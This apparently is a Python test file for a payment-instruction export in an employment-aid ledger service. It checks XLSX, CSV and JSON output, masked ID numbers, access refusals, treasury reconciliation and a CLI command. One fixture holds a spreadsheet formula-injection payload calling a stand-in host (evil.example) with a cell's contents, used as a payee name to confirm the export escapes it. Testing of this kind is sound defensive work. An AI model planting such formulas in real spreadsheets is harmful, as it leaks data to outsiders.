"""The treasury instruction (支付申请) of an approved run or request, on SQLite and
PostgreSQL: the files read back with openpyxl (types, headers, sums that tie out, masked
ID numbers and never a clear one), the refusals (409 before approval, 403 outside the
scope, 404 unknown), the round trip through the treasury's disbursement file matched on
its 凭证号, and `jobaid payment-run instruction` in a fresh process."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote

import openpyxl
import pytest

from domain.values import months_between
from service.ledger import Ledger
from tests.api_support import HOME, JISHOU, PROVINCE, Api, event, running_api, uid
from tests.builders import id_number
from tests.treasury_support import credit_code

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
HEADER = ["序号", "凭证号", "支付日期", "收款人", "收款人编号", "统一社会信用代码", "脱敏身份证号",
          "金额", "付款账户", "用途", "政策条款"]  # fmt: skip
CODE = credit_code(7)
# The instruction reads payments and payees back in bulk queries that differ by store.
pytestmark = pytest.mark.both_stores


@pytest.fixture
def api(make_ledger: Callable[[], Ledger]) -> Iterator[Api]:
    with running_api(make_ledger()) as api:
        for name, role, division in (
            ("clerk", "clerk", HOME), ("finance", "finance", HOME), ("finance2", "finance", HOME),
            ("jishou", "finance", JISHOU), ("auditor", "auditor", PROVINCE),
        ):  # fmt: skip
            api.token(name, role, division)
        yield api


def county(api: Api, money: str = "10000.00") -> list[str]:
    """Two workers on a 芙蓉区 course (two attended days each: R10 40.00) and one at a
    factory with a credit code (R14 1920.00); returns the workers' clear ID numbers."""
    numbers = [id_number(serial=300 + n) for n in range(3)]
    workers = [event("WorkerRegistered", worker_id=w, name=name, id_number=number,
                     birth_date="1990-03-07", home_division=HOME, registered_on="2017-01-01")
               for w, name, number in zip(("w1", "w2", "w4"), ("李四", HOSTILE, "王五"), numbers, strict=True)]  # fmt: skip
    courses = [event("TrainingEnrolled", enrollment_id=e, worker_id=w, kind="pre_employment",
                     category="电工", division=HOME, started_on="2018-03-01")
               for e, w in (("en1", "w1"), ("en2", "w2"))]  # fmt: skip
    api.record("clerk", *workers,
        event("OrganisationRegistered", org_id="factory", name="长沙电机厂", division=HOME,
              kind="enterprise", credit_code=CODE),
        *courses,
        *[event("TrainingDayAttended", enrollment_id=e, day=d) for e in ("en1", "en2") for d in ("2018-03-01", "2018-03-02")],
        event("WorkerPlaced", placement_id="p4", worker_id="w4", employer_id="factory",
              started_on="2018-01-15", work_division=HOME, contract_months=24),
        *[event("SocialInsuranceContributed", employer_id="factory", worker_id="w4", month=m,
                pension="100.00", medical="50.00", unemployment="10.00") for m in months_between("2018-01", "2018-12")],
    )  # fmt: skip
    api.record("finance", event("FundsAppropriated", appropriation_id=uid("ap"),
             source="employment_fund", division=HOME, amount=money,
             appropriated_on="2017-07-01", document_ref="芙财社〔2017〕1号"))  # fmt: skip
    return numbers


def started_run(api: Api) -> dict[str, Any]:
    body = {"run_id": uid("run"), "division": HOME, "rules": ["R10", "R14"], "paid_on": "2019-01-15"}  # fmt: skip
    answer = api.post("clerk", "/payment-runs", body)
    assert answer.status_code == 201, answer.json()
    return dict(answer.json())


def approved_run(api: Api) -> dict[str, Any]:
    run = started_run(api)
    body = {"approval_id": uid("apv"), "paid_on": "2019-01-15"}
    answer = api.post("finance", f"/payment-runs/{run['run_id']}/approval", body)
    assert answer.status_code == 201, answer.json()
    return dict(answer.json())


def book_of(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def rows_of(sheet: Any) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows()]


def test_an_approved_runs_instruction_has_numeric_amounts_and_a_summary_that_ties_out(
    api: Api,
) -> None:
    numbers = county(api)
    run = approved_run(api)
    answer = api.get("auditor", f"/payment-runs/{run['run_id']}/instruction")
    assert answer.status_code == 200 and answer.headers["content-type"] == XLSX
    assert quote(f"支付申请-{run['run_id']}.xlsx", safe="") in answer.headers["content-disposition"]
    book = book_of(answer.content)
    assert book.sheetnames == ["支付申请", "汇总"]
    lines = rows_of(book["支付申请"])
    assert [cell.value for cell in lines[0]] == HEADER
    body = lines[1:]
    assert [row[1].value for row in body] == run["report"]["paid"]  # 凭证号 = payment id
    assert all(row[7].data_type == "n" and row[7].number_format == "#,##0.00" for row in body)
    assert all(row[2].is_date for row in body)
    by_payee = {row[4].value: row for row in body}
    assert by_payee["factory"][5].value == CODE and by_payee["factory"][6].value is None
    assert (
        by_payee["factory"][9].value == "社会保险补贴" and by_payee["w1"][9].value == "生活费补贴"
    )
    assert by_payee["w1"][6].value.endswith("****") and by_payee["w1"][5].value is None
    assert by_payee["w2"][3].value == "'" + HOSTILE  # a payee named like a formula stays text
    assert by_payee["w1"][8].value == f"就业补助资金 芙蓉区（{HOME}）"
    summary = rows_of(book["汇总"])
    assert summary[-1][0].value == "合计" and summary[-1][2].value == len(body) == 3
    total = sum(Decimal(str(row[7].value)) for row in body)
    assert Decimal(str(summary[-1][3].value)) == total == Decimal("2000.00")
    assert sum(Decimal(str(row[3].value)) for row in summary[1:-1]) == total
    assert answer.headers["x-instruction-total"] == "2000.00"
    assert not any(number in text for number in numbers for text in xml_texts(answer.content))


def xml_texts(content: bytes) -> list[str]:
    """Every part of an XLSX workbook as text: where a clear number would hide."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [book.read(name).decode() for name in book.namelist()]


def test_the_csv_instruction_is_utf8_with_a_bom_english_headers_and_the_same_lines(api: Api) -> None:  # fmt: skip
    numbers = county(api)
    run = approved_run(api)
    path = f"/payment-runs/{run['run_id']}/instruction?lang=en"
    answer = api.get("finance", path, Accept="text/csv")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith("\ufeff".encode())
    assert f"payment-instruction-{run['run_id']}.csv" in answer.headers["content-disposition"]
    text = answer.content.decode("utf-8-sig")
    header, *lines = csv.reader(io.StringIO(text))
    assert header[:8] == ["no", "voucher", "payment date", "payee", "payee_id", "credit code", "masked ID number", "amount"]  # fmt: skip
    assert len(lines) == 3 and {line[7] for line in lines} == {"40.00", "1920.00"}
    assert not any(number in text for number in numbers)
    as_json = api.get("finance", f"/payment-runs/{run['run_id']}/instruction?format=json").json()
    assert as_json["total"] == "2000.00" and [line["voucher"] for line in as_json["lines"]] == run["report"]["paid"]  # fmt: skip


def test_a_run_has_no_instruction_before_its_approval_nor_outside_the_callers_scope(api: Api) -> None:  # fmt: skip
    county(api)
    run = started_run(api)
    path = f"/payment-runs/{run['run_id']}/instruction"
    refused = api.get("finance", path)
    assert refused.status_code == 409 and "not approved" in refused.json()["detail"]
    assert api.get("jishou", path).status_code == 403
    assert api.get("finance", "/payment-runs/no-such-run/instruction").status_code == 404
    assert api.get("finance", path + "?format=pdf").status_code == 422
    assert api.get("finance", path + "?lang=fr").status_code == 422


def test_only_paid_items_appear_not_those_R21_stopped(api: Api) -> None:
    county(api, money="100.00")
    run = approved_run(api)
    assert [s["refused_by"] for s in run["report"]["stopped"]] == ["R21"]
    answer = api.get("finance", f"/payment-runs/{run['run_id']}/instruction?format=json").json()
    assert [line["voucher"] for line in answer["lines"]] == run["report"]["paid"]
    assert answer["count"] == 2 and answer["total"] == "80.00"


def test_a_reversed_payment_leaves_the_instruction(api: Api) -> None:
    county(api)
    run = approved_run(api)
    gone = run["report"]["paid"][0]
    body = {"reversal_id": uid("rev"), "reason": "paid twice", "reversed_on": "2019-01-16"}
    assert api.post("finance", f"/payments/{gone}/reversal", body).status_code == 201
    answer = api.get("finance", f"/payment-runs/{run['run_id']}/instruction?format=json").json()
    assert gone not in [line["voucher"] for line in answer["lines"]] and answer["count"] == 2


def request_body(request_id: str) -> dict[str, Any]:
    return {"request_id": request_id, "rule": "R10", "payee_id": "w1", "enrollment_id": "en1",
            "paid_on": "2019-01-15"}  # fmt: skip


def test_a_single_approved_request_has_its_own_instruction(api: Api) -> None:
    county(api)
    request_id = uid("req")
    made = api.post("clerk", "/payment-requests", request_body(request_id))
    assert made.status_code == 201, made.json()
    path = f"/payment-requests/{request_id}/instruction"
    assert api.get("finance", path).status_code == 409
    assert api.get("jishou", path).status_code == 403
    assert api.get("finance", "/payment-requests/nobody/instruction").status_code == 404
    approval = {"approval_id": uid("apv"), "paid_on": "2019-01-15"}
    assert api.post("finance", f"{path[:-12]}/approval", approval).status_code == 201
    answer = api.get("finance", path)
    assert quote(f"支付申请-{request_id}.xlsx", safe="") in answer.headers["content-disposition"]
    body = rows_of(book_of(answer.content)["支付申请"])[1:]
    assert [(row[1].value, row[7].value) for row in body] == [(request_id, 40)]


def disbursed(instruction: bytes) -> bytes:
    """The treasury's disbursement file made from an instruction: its lines, each paid a
    day later, under the same headers (a treasury writes the 凭证号 back)."""
    lines = book_of(instruction)["支付申请"]
    out = openpyxl.Workbook()
    sheet = out.active
    sheet.append(["国库集中支付明细"])  # a title row above the header
    for number, row in enumerate(lines.iter_rows(values_only=True)):
        cells = list(row)
        if number:
            cells[2] = (cells[2].date() + timedelta(days=1)).isoformat()
        sheet.append(cells)
    kept = io.BytesIO()
    out.save(kept)
    return kept.getvalue()


def test_the_treasurys_file_made_from_the_instruction_matches_every_line_on_its_voucher(api: Api) -> None:  # fmt: skip
    county(api)
    run = approved_run(api)
    instruction = api.get("finance", f"/payment-runs/{run['run_id']}/instruction").content
    headers = api.headers("finance", **{"Content-Type": XLSX, "X-File-Name": "disbursed.xlsx"})
    path = f"/v1/reconciliations?source=employment_fund&division={HOME}&period=2019-01"
    answer = api.client.post(path, content=disbursed(instruction), headers=headers)
    assert answer.status_code == 201, answer.text
    report = answer.json()
    assert report["totals"]["matched"] == 3 and report["totals"]["unmatched_ledger"] == 0
    assert {(line["status"], line["key"], line["date_slip"]) for line in report["lines"]} == {("matched", "voucher", 1)}  # fmt: skip


def jobaid(database_url: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "JOBAID_DATABASE_URL": database_url, "JOBAID_PII_KEY": "cli-test"}
    return subprocess.run([sys.executable, "-m", "cli", *args], env=env, cwd=tmp_path,
                          capture_output=True, timeout=120)  # fmt: skip


def test_jobaid_payment_run_instruction_writes_the_same_file_in_a_fresh_process(
    api: Api, database_url: str, tmp_path: Path
) -> None:
    county(api)
    run = approved_run(api)
    unapproved = started_run(api)  # finds nothing left to request, and stays unapproved
    book = tmp_path / "instruction.xlsx"
    done = jobaid(database_url, tmp_path, "payment-run", "instruction", run["run_id"], "--output", str(book))  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    lines = rows_of(book_of(book.read_bytes())["支付申请"])
    assert [cell.value for cell in lines[0]] == HEADER
    assert [row[1].value for row in lines[1:]] == run["report"]["paid"]
    as_csv = jobaid(database_url, tmp_path, "payment-run", "instruction", run["run_id"], "--format", "csv")  # fmt: skip
    assert as_csv.returncode == 0 and as_csv.stdout.startswith("\ufeff".encode())
    assert len(as_csv.stdout.decode("utf-8-sig").splitlines()) == 4
    refused = jobaid(database_url, tmp_path, "payment-run", "instruction", unapproved["run_id"])
    assert refused.returncode == 2 and b"not approved" in refused.stderr
    assert not (tmp_path / "instruction.xlsx.part").exists()
    one = run["report"]["paid"][0]  # a run's request is a request: its own instruction
    alone = jobaid(database_url, tmp_path, "payment-run", "instruction", "--request", one, "--format", "json")  # fmt: skip
    assert alone.returncode == 0 and [line["voucher"] for line in json.loads(alone.stdout)["lines"]] == [one]  # fmt: skip
    both = jobaid(database_url, tmp_path, "payment-run", "instruction", run["run_id"], "--request", one)  # fmt: skip
    assert both.returncode == 2 and b"not both" in both.stderr
